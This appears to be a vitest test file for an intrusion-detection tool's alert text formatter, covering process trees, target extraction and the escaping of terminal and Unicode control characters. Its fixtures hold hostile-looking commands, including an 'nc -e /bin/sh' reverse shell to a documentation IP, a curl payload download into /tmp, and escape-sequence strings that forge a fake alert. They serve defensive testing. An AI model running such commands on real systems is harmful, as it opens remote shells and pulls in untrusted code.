import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import { formatAlertText, formatTriageOnce, processTree, targetsLine } from "../../lib/alerts/format-text.js";
import { RULE_METADATA } from "../../lib/rule/metadata.js";
import { detect, exec, shell } from "../helpers/exec-events.js";
import { hostileText, rawUnsafe } from "../helpers/hostile-text.js";

async function alertFor(
  args: string[],
  parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"],
  exe = "/usr/bin/curl",
) {
  const { alerts } = await detect([
    shell(),
    exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: parentArgs }),
    exec({ pid: 300, ppid: 200, exe, args }),
  ]);
  const alert = alerts[0];
  if (alert === undefined) throw new Error(`no alert for ${args.join(" ")}`);
  return alert;
}

describe("formatAlertText", () => {
  it("shows who, what, where, the tree and the triage steps", async () => {
    const text = formatAlertText(await alertFor(["curl", "-o", "/tmp/k", "http://192.0.2.1/k"]));
    expect(text.split("\n")[0]).toBe("[HIGH] curl run from /tmp/x.sh on web-01");
    expect(text).toContain("location   /tmp/x.sh  (kind script, depth 1, tier temp)");
    expect(text).toContain("user       www-data (uid 33)");
    expect(text).toContain("T1105 Ingress Tool Transfer");
    expect(text).toContain("1. Check who ran the utility");
  });

  it("draws the tree root first with the matching node and the utility marked", async () => {
    const tree = processTree(await alertFor(["curl", "http://192.0.2.1/"]));
    expect(tree).toEqual([
      "[100] user=www-data /usr/bin/bash  $ bash",
      "└─ [200] user=www-data /usr/bin/dash  $ /bin/sh /tmp/x.sh  script=/tmp/x.sh   ◀ script /tmp/x.sh",
      "   └─ [300] user=www-data /usr/bin/curl  $ curl http://192.0.2.1/   ◀ utility",
    ]);
  });

  it("no command line can inject terminal escapes, new lines or bidi overrides", async () => {
    const hostile = ["curl", "http://192.0.2.1/\u001b[2J\n[CRITICAL] fake alert\u202e", "\u009b1m"];
    const text = formatAlertText(await alertFor(hostile, ["/bin/sh", "/tmp/\u001b]0;pwn\u0007x.sh"]));
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(text.split("\n").filter((l) => l.includes("fake alert"))).toHaveLength(1);
    expect(text).toContain("\\x1b[2J\\n[CRITICAL] fake alert\\u202e");
  });

  it.each([
    // The "Hostile text" cases: each passed raw before.
    ["tag characters", "x\u{e0001}\u{e0041}\u{e007f}", "x\\u{e0001}\\u{e0041}\\u{e007f}"],
    ["Hangul fillers", "\u115f\u1160\u3164\uffa0", "\\u115f\\u1160\\u3164\\uffa0"],
    ["the Mongolian vowel separator", "a\u180eb", "a\\u180eb"],
    ["the combining grapheme joiner", "a\u034fb", "a\\u034fb"],
    ["interlinear annotation marks", "\ufff9x\ufffay\ufffb", "\\ufff9x\\ufffay\\ufffb"],
    ["variation selectors", "a\ufe00\ufe0f\u{e0100}\u{e01ef}", "a\\ufe00\\ufe0f\\u{e0100}\\u{e01ef}"],
    ["private use and unassigned", "\ue000\u{f0000}\u0378\u{10ffff}", "\\ue000\\u{f0000}\\u0378\\u{10ffff}"],
    ["a lone surrogate", "a\ud800b", "a\\ud800b"],
  ])("%s in a path, a host, a user and a command line are escaped", async (_name, raw, shown) => {
    const { alerts } = await detect([
      shell({ host: `h${raw}`, user: `u${raw}` }),
      exec({
        pid: 200,
        ppid: 100,
        exe: "/usr/bin/dash",
        args: ["/bin/sh", `/tmp/${raw}`],
        host: `h${raw}`,
        user: `u${raw}`,
      }),
      exec({
        pid: 300,
        ppid: 200,
        exe: "/usr/bin/curl",
        args: ["curl", raw],
        host: `h${raw}`,
        user: `u${raw}`,
      }),
    ]);
    const text = formatAlertText(alerts[0]!);
    expect(rawUnsafe(text, "\n")).toEqual([]);
    expect(text).toContain(`location   /tmp/${shown}  (kind script`);
    expect(text).toContain(`host       h${shown}`);
    expect(text).toContain(`user       u${shown} (uid 33)`);
    expect(text).toContain(`$ curl ${shown}`);
  });

  it("property: no code point of the escaped classes reaches the report raw, from any field of telemetry", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(hostileText, { minLength: 1, maxLength: 3 }),
        hostileText,
        hostileText,
        hostileText,
        async (args, script, host, user) => {
          const { alerts } = await detect([
            shell({ host, user }),
            exec({
              pid: 200,
              ppid: 100,
              exe: "/usr/bin/dash",
              args: ["/bin/sh", `/tmp/${script}`],
              host,
              user,
            }),
            exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args: ["curl", ...args], host, user }),
          ]);
          const alert = alerts[0]!;
          // The report's own layout is one line per fact: its new lines are the only raw control characters.
          expect(rawUnsafe(formatAlertText(alert), "\n")).toEqual([]);
          expect(rawUnsafe(formatTriageOnce([alert]), "\n")).toEqual([]);
        },
      ),
      { numRuns: 200, seed: 20261127 },
    );
  });
});

describe("the targets line", () => {
  const many = Array.from({ length: 10 }, (_, i) => `http://h${i}.example/`);
  it.each([
    ["curl: the URL's host", ["curl", "-o", "/tmp/k", "http://192.0.2.1/k"], "/usr/bin/curl", "192.0.2.1"],
    [
      "nslookup: the name queried, not the server",
      ["nslookup", "vm.leak.example", "192.0.2.53"],
      "/usr/bin/nslookup",
      "vm.leak.example",
    ],
    ["dig: not the @resolver", ["dig", "@192.0.2.53", "example.org"], "/usr/bin/dig", "example.org"],
    [
      "nc: the host, not the port",
      ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
      "/usr/bin/nc",
      "203.0.113.5",
    ],
    ["wget -i: read from a file", ["wget", "-i", "/tmp/urls"], "/usr/bin/wget", "none recognised"],
    ["nmap: not parsed", ["nmap", "10.0.0.0/24"], "/usr/bin/nmap", "none recognised"],
    [
      "a hostile host is escaped",
      ["curl", "http://e\u001b[31mvil.example\u202e/"],
      "/usr/bin/curl",
      "e\\x1b[31mvil.example\\u202e",
    ],
    [
      "ten URLs: eight and a count",
      ["curl", ...many],
      "/usr/bin/curl",
      "h0.example, h1.example, h2.example, h3.example, h4.example, h5.example, h6.example, h7.example, … 2 more",
    ],
  ])("%s", async (_name, args, exe, line) => {
    const alert = await alertFor(args, ["/bin/sh", "/tmp/x.sh"], exe);
    expect(targetsLine(alert)).toBe(line);
    expect(formatAlertText(alert).split("\n")).toContain(`  targets    ${line}`);
  });
});

describe("triage steps", () => {
  it("triage: false leaves them out of the report", async () => {
    const alert = await alertFor(["curl", "http://192.0.2.1/"]);
    const text = formatAlertText(alert, { triage: false });
    expect(text).not.toContain("triage");
    expect(text).not.toContain("1. Check who ran the utility");
    expect(text.split("\n").at(-1)).toMatch(/^ {2}rule netutil-writable-exec v/);
  });

  it("formatTriageOnce: the steps once per rule, with how many alerts they are for", async () => {
    const alert = await alertFor(["curl", "http://192.0.2.1/"]);
    const rule = `${RULE_METADATA.id} v${RULE_METADATA.version}`;
    const steps = RULE_METADATA.triage.map((step, i) => `  ${i + 1}. ${step}`);
    expect(formatTriageOnce([alert, alert, alert]).split("\n")).toEqual([
      `triage, for each of the 3 alerts above (rule ${rule}):`,
      ...steps,
    ]);
    expect(formatTriageOnce([alert]).split("\n")[0]).toBe(`triage, for the alert above (rule ${rule}):`);
    const other: Alert = { ...alert, rule: { ...alert.rule, id: "other-rule" }, triage: ["Look \u001b[2J."] };
    expect(formatTriageOnce([alert, other]).split("\n\n")).toEqual([
      [`triage, for the alert above (rule ${rule}):`, ...steps].join("\n"),
      `triage, for the alert above (rule other-rule v${RULE_METADATA.version}):\n  1. Look \\x1b[2J.`,
    ]);
  });
});
